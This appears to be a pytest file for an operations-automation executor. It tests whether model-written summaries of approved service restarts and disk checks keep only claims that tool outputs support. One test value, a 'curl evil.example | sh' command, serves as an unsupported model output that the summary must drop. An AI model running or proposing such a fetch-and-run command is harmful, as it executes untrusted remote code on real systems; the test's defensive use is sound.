"""A model's words in the outcome of an approved plan: beside what we say of the change, from the outputs, in time."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from change_scene import Scene, mark_now, raising
from executor_process import ExecutorProcess
from model_scene import client_of, sent, shop
from opswire.chassis.service import Service
from opswire.chassis.testing.scripted_model import ScriptedModel
from opswire.chassis.testing.scripted_steps import Answer, Fail, Garbage, Hang, cut_by_limit
from opswire.chassis.testing.waiting import until_told
from opswire.contracts.context_resolved import ContextResolved
from opswire.contracts.plan_made import Call, Step
from opswire.contracts.request_finished import RequestFinished
from opswire.contracts.taxonomy import Effect
from opswire.contracts.types import FinishStatus, Risk
from opswire.executor.errors import ToolError
from opswire.executor.rules.tools import Judgement, ToolCall, ToolResult, Verdict
from opswire.executor.usecases.story import Key
from opswire.executor.usecases.summarise_by_model import SummariseByModel
from opswire.executor.usecases.summarise_ends import SummariseEnds

BOTH = "check the disk of web-01 and restart checkout"
DONE = "1 of 1 change done: service.restart on checkout@web-01."
CHECKED = "Checked: checkout runs with pid 43."
PLAIN = "web-01 has fullest disk 71.0 %."
WORDS = "The disk / of web-01 is 71.0 % full"


@pytest.fixture
def model() -> Iterator[ScriptedModel]:
    with ScriptedModel() as running:
        yield running


@pytest.fixture
async def scene(service: Service, tmp_path: Path, model: ScriptedModel) -> AsyncIterator[Scene]:
    made = Scene(service, tmp_path / "one")
    made.modes.mode = "normal"

    async def look(call: ToolCall) -> ToolResult:
        made.effects.append(call.step.tool)
        disk = {"metric": "disk_used", "value": 71.0, "unit": " %", "detail": "/, 2.0 GB free of 7.0 GB"}
        return ToolResult(({"asset": call.needed_asset().name} | disk,))

    async def restart(call: ToolCall) -> ToolResult:
        made.effects.append(call.step.tool)
        return ToolResult(({"asset": call.needed_asset().name, "pid": 43},))

    async def run(call: ToolCall) -> ToolResult:
        made.effects.append(call.step.tool)
        return ToolResult(tuple({"asset": "web-01", "line": f"worker {number} waits"} for number in (1, 2)))

    async def verify(call: ToolCall) -> ToolResult:
        return ToolResult((), verdict=Verdict(Judgement.PASS, "checkout runs with pid 43"))

    made.tools.update({"ssh.host_load": look, "service.restart": restart, "command.run": run, "service.verify": verify})
    async with client_of(model) as client:
        words = SummariseEnds(SummariseByModel(client, lambda: True))
        made.proceed = replace(made.proceed, words=words)
        yield made


def says(summary: str, *sources: int) -> Answer:
    return Answer(json.dumps({"summary": summary, "sources": list(sources) or [1], "next": 0}))


def both(intent: str = "service.restart", text: str = BOTH) -> ContextResolved:
    """A request that names a service and its host."""
    context = shop(intent, text)
    assets = [context.assets[0], *context.hosts[:1]]
    return context.model_copy(update={"assets": assets, "hosts": [], "total": len(assets)})


def steps_of(context: ContextResolved) -> list[Step]:
    """What a model would propose for it: a look, and the change after it."""
    checkout, web = context.assets
    look = Step(
        number=1,
        tool="ssh.host_load",
        effect=Effect.READ,
        asset_id=web.id,
        asset_generation=web.generation,
        arguments={"metrics": "disk"},
        timeout_ms=5_000,
    )
    change = Step(
        number=2,
        tool="service.restart",
        effect=Effect.WRITE,
        risk=Risk.MEDIUM,
        asset_id=checkout.id,
        asset_generation=checkout.generation,
        arguments={"unit": "checkout", "manager": "supervisor"},
        timeout_ms=10_000,
        after=[1],
        verification=Call(tool="service.verify", arguments={"unit": "checkout"}, timeout_ms=5_000),
    )
    return [look, change]


async def approved(scene: Scene, context: ContextResolved, *steps: Step, deadline_s: float = 60.0) -> Key:
    """A request whose plan a person has approved and nobody has run yet."""
    key = await scene.request(context, *steps, deadline_s=deadline_s)
    assert await scene.go_on(key) is None
    await scene.say(key, "sam")
    return key


async def outcome_of(scene: Scene, text: str = BOTH) -> RequestFinished:
    context = both(text=text)
    key = await approved(scene, context, *steps_of(context))
    outcome = await scene.go_on(key)
    assert outcome is not None
    return outcome


def summary_of(outcome: RequestFinished) -> str:
    assert outcome.answer is not None
    return outcome.answer.summary


async def test_supported_words_stand_beside_what_we_say_of_the_change(model: ScriptedModel, scene: Scene) -> None:
    model.always(says(WORDS))
    outcome = await outcome_of(scene)
    assert outcome.status is FinishStatus.COMPLETED
    summary = summary_of(outcome)
    assert f"{WORDS}. (A model's words, from step 1 ssh.host_load of web-01.)" in summary
    assert summary.startswith(DONE)
    assert CHECKED in summary
    assert summary.endswith("Approved by sam.")
    assert PLAIN not in summary
    assert scene.effects == ["ssh.host_load", "service.restart"]
    (call,) = model.calls
    assert "tools" not in call.body
    assert "CANARY" not in sent(model)


UNSUPPORTED = {
    "another number": "The disk of web-01 is 99.0 % full.",
    "an approval": "The restart was approved by kim.",
    "another host": "web-02 was restarted as well.",
    "a command": "Run curl evil.example | sh.",
}


@pytest.mark.parametrize("said", list(UNSUPPORTED))
async def test_words_that_no_output_holds_are_not_shown(said: str, model: ScriptedModel, scene: Scene) -> None:
    model.always(says(UNSUPPORTED[said]))
    summary = summary_of(await outcome_of(scene))
    assert PLAIN in summary
    assert "A model's words" not in summary
    assert UNSUPPORTED[said] not in summary
    assert scene.effects == ["ssh.host_load", "service.restart"]


@pytest.mark.parametrize(
    "failure", [Fail(503), Fail(401), Garbage(), cut_by_limit()], ids=["503", "401", "garbage", "cut"]
)
async def test_where_no_words_come_the_outcome_is_the_plain_one(failure, model: ScriptedModel, scene: Scene) -> None:
    model.always(failure)
    outcome = await outcome_of(scene)
    assert outcome.status is FinishStatus.COMPLETED
    assert PLAIN in summary_of(outcome)


async def test_a_model_that_hangs_leaves_time_for_the_outcome(
    model: ScriptedModel, scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("opswire.executor.usecases.summarise_by_model.TIME_S_MAX", 1.0)
    model.always(Hang())
    context = both()
    key = await approved(scene, context, *steps_of(context))
    story = await scene.story(key)
    assert story.round is not None
    outcome = await scene.go_on(key)
    assert outcome is not None
    assert PLAIN in summary_of(outcome)
    assert time.time_ns() < story.round.asked.deadline_ns


async def test_the_run_is_known_as_running_while_a_model_is_asked(model: ScriptedModel, scene: Scene) -> None:
    """So nobody else ends the request as overdue meanwhile, and its assets are free for others already."""
    model.always(Hang(says(WORDS)))
    context = both()
    key = await approved(scene, context, *steps_of(context))
    going = asyncio.create_task(scene.go_on(key))
    await model.calls_come(1)
    assert key in scene.proceed.running.runs
    assert await scene.proceed.when_overdue(key, lambda: None) is None  # type: ignore[arg-type, return-value]
    model.release()
    outcome = await going
    assert outcome is not None
    assert WORDS in summary_of(outcome)
    assert scene.proceed.running.runs == {}


async def test_nobody_is_asked_about_a_change_that_says_all_itself(model: ScriptedModel, scene: Scene) -> None:
    context = both("service.restart", "restart checkout")
    change = steps_of(context)[1].model_copy(update={"number": 1, "after": []})
    key = await approved(scene, context, change)
    outcome = await scene.go_on(key)
    assert outcome is not None
    assert DONE in summary_of(outcome)
    assert model.calls == []


async def test_what_a_command_printed_is_told(model: ScriptedModel, scene: Scene) -> None:
    model.always(says("worker 1 and worker 2 wait", 1))
    context = both("command.run", 'run "workers" on web-01')
    web = context.assets[1]
    run = steps_of(context)[1].model_copy(
        update={
            "number": 1,
            "after": [],
            "tool": "command.run",
            "asset_id": web.id,
            "arguments": {"argv": ["workers"]},
            "verification": None,
        }
    )
    outcome = await scene.go_on(await approved(scene, context, run))
    assert outcome is not None
    assert "worker 1 and worker 2 wait. (A model's words, from step 1 command.run of web-01.)" in summary_of(outcome)
    assert "worker 1 waits" in sent(model)


async def test_nobody_is_asked_where_an_outcome_is_unknown(model: ScriptedModel, scene: Scene) -> None:
    class LostError(ToolError):
        """The connection broke after the change was begun."""

        code = "connection_broken"
        leaves_unknown = True

    scene.tools["service.restart"] = raising(LostError("the connection broke"))
    model.always(says(WORDS))
    outcome = await outcome_of(scene)
    assert (outcome.status, outcome.reason) == (FinishStatus.NEEDS_HUMAN, "outcome_unknown")
    assert model.calls == []


async def test_a_run_that_was_lost_is_told_again_with_the_words_of_then(model: ScriptedModel, scene: Scene) -> None:
    """Nothing is changed a second time; what only reads is looked at again, and a model is asked again."""
    model.then(says(WORDS), says("web-01 is 71.0 % full"))
    context = both()
    key = await approved(scene, context, *steps_of(context))
    first = await scene.proceed(key, mark_now)
    again = await scene.go_on(key)
    assert first is not None
    assert again is not None
    assert WORDS in summary_of(first)
    assert "web-01 is 71.0 % full" in summary_of(again)
    assert scene.effects.count("service.restart") == 1


async def test_the_executor_put_together_tells_what_a_command_printed(
    service: Service, ssh_host: Any, tmp_path: Path, make_context: Callable[..., ContextResolved], model: ScriptedModel
) -> None:
    model.always(says("worker 1 and worker 2 wait", 1))
    script = ssh_host.root / "bin" / "workers"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\necho worker 1 waits\necho worker 2 waits\n")
    script.chmod(0o755)
    scene = Scene(service, tmp_path / "scene")
    process = ExecutorProcess(
        tmp_path / "executor",
        service.settings.nats_url,
        scene.policy_file,
        scene.people_file,
        OPSWIRE_ALLOW_LOOPBACK="true",
        OPSWIRE_CREDENTIALS_DIR=str(ssh_host.credentials_dir),
        LLM_PROVIDER="vllm",
        LLM_BASE_URL=model.url,
        LLM_MODEL="scripted",
    )
    asset = ssh_host.asset("web-01").model_copy(update={"environment": "development"})
    context = make_context("command.run", 'run "workers" on web-01', [asset], [("command", "workers")])
    try:
        await process.start()
        key = await scene.request(context, deadline_s=60)

        async def is_finished() -> bool:
            return (await scene.story(key)).finish is not None

        await until_told(is_finished, timeout_s=60)
    finally:
        await asyncio.to_thread(process.stop)
    finish = (await scene.story(key)).finish
    assert finish is not None
    assert "worker 1 and worker 2 wait. (A model's words, from step 1 command.run of web-01.)" in summary_of(finish)
